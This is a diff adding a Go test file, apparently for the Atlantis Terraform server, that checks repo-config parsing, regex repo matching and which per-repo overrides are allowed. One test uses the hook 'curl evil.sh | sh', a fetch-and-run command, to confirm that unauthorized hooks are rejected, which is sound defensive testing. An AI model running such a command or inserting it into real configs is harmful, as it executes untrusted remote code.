@@ -0,0 +1,296 @@
+package events_test
+
+import (
+	"fmt"
+	"io/ioutil"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/hashicorp/go-version"
+	"github.com/hootsuite/atlantis/server/events"
+	. "github.com/hootsuite/atlantis/testing"
+)
+
+func TestReadServerRepoConfig_Valid(t *testing.T) {
+	t.Log("repos and workflows should be parsed")
+	config, err := readServerRepoConfigStr(t, `
+repos:
+- id: /.*/
+  workflow: restricted
+  apply_requirements: [approved, "approvals:2", "approved_by:org/team", mergeable, no_new_commits]
+  terraform_version: 0.10.0
+- id: hootsuite/atlantis
+  allowed_overrides: [workflow, terraform_version]
+  parallel_pool_size: 4
+workflows:
+  restricted:
+    plan:
+      steps: [init, {plan: {extra_args: [-lock=false]}}]
+`)
+	Ok(t, err)
+	Equals(t, 2, len(config.Repos))
+	Equals(t, "/.*/", config.Repos[0].ID)
+	Equals(t, "restricted", config.Repos[0].Workflow)
+	Equals(t, []string{"approved", "approvals:2", "approved_by:org/team", "mergeable", "no_new_commits"}, config.Repos[0].ApplyRequirements)
+	Equals(t, "0.10.0", config.Repos[0].TerraformVersion.String())
+	Equals(t, []string{"workflow", "terraform_version"}, config.Repos[1].AllowedOverrides)
+	Equals(t, 4, config.Repos[1].ParallelPoolSize)
+	Equals(t, events.Workflow{
+		Plan: events.Stage{
+			Steps: []events.Step{
+				{Name: events.InitStepName},
+				{Name: events.PlanStepName, ExtraArgs: []string{"-lock=false"}},
+			},
+		},
+		Apply: events.DefaultWorkflow.Apply,
+	}, config.Workflows["restricted"])
+}
+
+func TestReadServerRepoConfig_Invalid(t *testing.T) {
+	cases := []struct {
+		description string
+		config      string
+		expErr      string
+	}{
+		{
+			"unknown keys",
+			"repos:\n- id: a\n  allow_everything: true",
+			"field allow_everything not found",
+		},
+		{
+			"id is required",
+			"repos:\n- workflow: default",
+			"repo 1: id is required",
+		},
+		{
+			"regex must be valid",
+			"repos:\n- id: /(/",
+			`repo 1: parsing id "/(/"`,
+		},
+		{
+			"allowed overrides must be valid",
+			"repos:\n- id: a\n  allowed_overrides: [dir]",
+			`repo 1: invalid allowed_overrides key "dir": must be one of workflow, workflows, terraform_version, apply_requirements`,
+		},
+		{
+			"apply requirements must be valid",
+			"repos:\n- id: a\n  apply_requirements: [reviewed]",
+			`repo 1: invalid apply requirement "reviewed": must be one of approved, approvals:<n>, approved_by:<team>, mergeable or no_new_commits`,
+		},
+		{
+			"approvals must be a positive number",
+			"repos:\n- id: a\n  apply_requirements: [\"approvals:0\"]",
+			`repo 1: invalid apply requirement "approvals:0": approvals must be followed by a positive number, ex. approvals:2`,
+		},
+		{
+			"approved_by must have a team",
+			"repos:\n- id: a\n  apply_requirements: [approved_by]",
+			`repo 1: invalid apply requirement "approved_by": approved_by must be followed by a team, ex. approved_by:org/team`,
+		},
+		{
+			"requirements without arguments can't have one",
+			"repos:\n- id: a\n  apply_requirements: [\"mergeable:yes\"]",
+			`repo 1: invalid apply requirement "mergeable:yes": must be one of approved, approvals:<n>, approved_by:<team>, mergeable or no_new_commits`,
+		},
+		{
+			"parallel pool size can't be negative",
+			"repos:\n- id: a\n  parallel_pool_size: -1",
+			"repo 1: parallel_pool_size can't be negative",
+		},
+		{
+			"workflows must be defined",
+			"repos:\n- id: a\n- id: b\n  workflow: custom",
+			`repo 2: workflow "custom" isn't defined`,
+		},
+	}
+	for _, c := range cases {
+		t.Run(c.description, func(t *testing.T) {
+			_, err := readServerRepoConfigStr(t, c.config)
+			Assert(t, err != nil, "expect an error")
+			Assert(t, strings.Contains(err.Error(), c.expErr), "exp %q to contain %q", err.Error(), c.expErr)
+		})
+	}
+}
+
+func TestServerRepoConfigForRepo_Nil(t *testing.T) {
+	t.Log("without a server repo config repos should be allowed to override everything")
+	var config *events.ServerRepoConfig
+	Equals(t, events.RepoSettings{AllowedOverrides: events.AllOverrides}, config.ForRepo("owner/repo"))
+}
+
+func TestServerRepoConfigForRepo(t *testing.T) {
+	config, err := readServerRepoConfigStr(t, `
+repos:
+- id: /^hootsuite/.*/
+  apply_requirements: [approved]
+  terraform_version: 0.10.0
+  allowed_overrides: [workflow]
+  parallel_pool_size: 4
+- id: hootsuite/atlantis
+  terraform_version: 0.11.0
+  allowed_overrides: []
+`)
+	Ok(t, err)
+
+	t.Log("repos that don't match should get no settings")
+	Equals(t, events.RepoSettings{}, config.ForRepo("other/repo"))
+
+	t.Log("repos matching a regex should get its settings")
+	v10, _ := version.NewVersion("0.10.0")
+	Equals(t, events.RepoSettings{
+		ApplyRequirements: []string{"approved"},
+		TerraformVersion:  v10,
+		AllowedOverrides:  []string{"workflow"},
+		ParallelPoolSize:  4,
+	}, config.ForRepo("hootsuite/other"))
+
+	t.Log("later matches should override the settings they set")
+	v11, _ := version.NewVersion("0.11.0")
+	Equals(t, events.RepoSettings{
+		ApplyRequirements: []string{"approved"},
+		TerraformVersion:  v11,
+		AllowedOverrides:  []string{},
+		ParallelPoolSize:  4,
+	}, config.ForRepo("hootsuite/atlantis"))
+}
+
+func TestServerRepoMatches(t *testing.T) {
+	config, err := readServerRepoConfigStr(t, `
+repos:
+- id: /org/infra/
+- id: /org/.*/
+- id: org/repo
+`)
+	Ok(t, err)
+	cases := []struct {
+		id           int
+		repoFullName string
+		exp          bool
+	}{
+		{0, "org/infra", true},
+		{0, "evilorg/infra", false},
+		{0, "org/infra-fork", false},
+		{0, "evilorg/infra-fork", false},
+		{1, "org/anything", true},
+		{1, "evilorg/anything", false},
+		{2, "org/repo", true},
+		{2, "org/repo2", false},
+	}
+	for _, c := range cases {
+		t.Run(fmt.Sprintf("%s %s", config.Repos[c.id].ID, c.repoFullName), func(t *testing.T) {
+			Equals(t, c.exp, config.Repos[c.id].Matches(c.repoFullName))
+		})
+	}
+}
+
+func TestRepoSettingsCheckRepoConfig(t *testing.T) {
+	v, _ := version.NewVersion("0.11.0")
+	cases := []struct {
+		description string
+		allowed     []string
+		config      events.RepoConfig
+		expErr      string
+	}{
+		{
+			"projects without overrides are always allowed",
+			nil,
+			events.RepoConfig{Projects: []events.RepoConfigProject{{Dir: "."}}},
+			"",
+		},
+		{
+			"workflows can't be defined unless allowed",
+			[]string{"workflow"},
+			events.RepoConfig{Workflows: map[string]events.Workflow{"custom": customWorkflow}},
+			`atlantis.yaml can't define workflows: the Atlantis server's repo config doesn't allow this repo to override "workflows". Allowed overrides: workflow.`,
+		},
+		{
+			"workflow can't be set unless allowed",
+			nil,
+			events.RepoConfig{Projects: []events.RepoConfigProject{{Dir: "a", Workflow: "default"}}},
+			`atlantis.yaml can't set workflow for the project in dir "a": the Atlantis server's repo config doesn't allow this repo to override "workflow". Allowed overrides: none.`,
+		},
+		{
+			"terraform_version can't be set unless allowed",
+			nil,
+			events.RepoConfig{Projects: []events.RepoConfigProject{{Dir: "a", TerraformVersion: v}}},
+			`atlantis.yaml can't set terraform_version for the project in dir "a": the Atlantis server's repo config doesn't allow this repo to override "terraform_version". Allowed overrides: none.`,
+		},
+		{
+			"apply_requirements can't be set unless allowed",
+			nil,
+			events.RepoConfig{Projects: []events.RepoConfigProject{{Dir: "a", ApplyRequirements: []string{}}}},
+			`atlantis.yaml can't set apply_requirements for the project in dir "a": the Atlantis server's repo config doesn't allow this repo to override "apply_requirements". Allowed overrides: none.`,
+		},
+		{
+			"workflows must be defined",
+			[]string{"workflow"},
+			events.RepoConfig{Projects: []events.RepoConfigProject{{Dir: "a", Workflow: "custom"}}},
+			`atlantis.yaml: project in dir "a" uses workflow "custom" which isn't defined`,
+		},
+		{
+			"workflows can be defined by the server",
+			[]string{"workflow"},
+			events.RepoConfig{Projects: []events.RepoConfigProject{{Dir: "a", Workflow: "server"}}},
+			"",
+		},
+		{
+			"everything can be set if allowed",
+			events.AllOverrides,
+			events.RepoConfig{
+				Projects: []events.RepoConfigProject{
+					{Dir: "a", Workflow: "custom", TerraformVersion: v, ApplyRequirements: []string{"approved"}},
+				},
+				Workflows: map[string]events.Workflow{"custom": customWorkflow},
+			},
+			"",
+		},
+	}
+	for _, c := range cases {
+		t.Run(c.description, func(t *testing.T) {
+			settings := events.RepoSettings{
+				AllowedOverrides: c.allowed,
+				Workflows:        map[string]events.Workflow{"server": customWorkflow},
+			}
+			err := settings.CheckRepoConfig(&c.config)
+			if c.expErr == "" {
+				Ok(t, err)
+				return
+			}
+			Assert(t, err != nil, "expect an error")
+			Equals(t, c.expErr, err.Error())
+		})
+	}
+}
+
+func TestRepoSettingsCheckProjectConfig(t *testing.T) {
+	t.Log("project config files can't set hooks or terraform_version unless allowed")
+	settings := events.RepoSettings{AllowedOverrides: []string{"terraform_version"}}
+	Ok(t, settings.CheckProjectConfig(events.ProjectConfig{}, "a"))
+
+	err := settings.CheckProjectConfig(events.ProjectConfig{PrePlan: []string{"curl evil.sh | sh"}}, "a")
+	Assert(t, err != nil, "expect an error")
+	Equals(t, `atlantis.yaml in dir "a" can't set hooks or extra_arguments: the Atlantis server's repo config doesn't allow this repo to override "workflows". Allowed overrides: terraform_version.`, err.Error())
+
+	v, _ := version.NewVersion("0.11.0")
+	settings = events.RepoSettings{}
+	err = settings.CheckProjectConfig(events.ProjectConfig{TerraformVersion: v}, "a")
+	Assert(t, err != nil, "expect an error")
+	Equals(t, `atlantis.yaml in dir "a" can't set terraform_version: the Atlantis server's repo config doesn't allow this repo to override "terraform_version". Allowed overrides: none.`, err.Error())
+}
+
+func TestRepoSettingsDefaultWorkflow(t *testing.T) {
+	t.Log("the server's default workflow should be used if set")
+	settings := events.RepoSettings{Workflows: map[string]events.Workflow{"custom": customWorkflow}}
+	Equals(t, events.DefaultWorkflow, settings.DefaultWorkflow())
+	settings.Workflow = "custom"
+	Equals(t, customWorkflow, settings.DefaultWorkflow())
+}
+
+func readServerRepoConfigStr(t *testing.T, s string) (*events.ServerRepoConfig, error) {
+	dir, cleanup := tempRepoDir(t)
+	defer cleanup()
+	path := filepath.Join(dir, "repos.yaml")
+	Ok(t, ioutil.WriteFile(path, []byte(s), 0644))
+	return events.ReadServerRepoConfig(path)
+}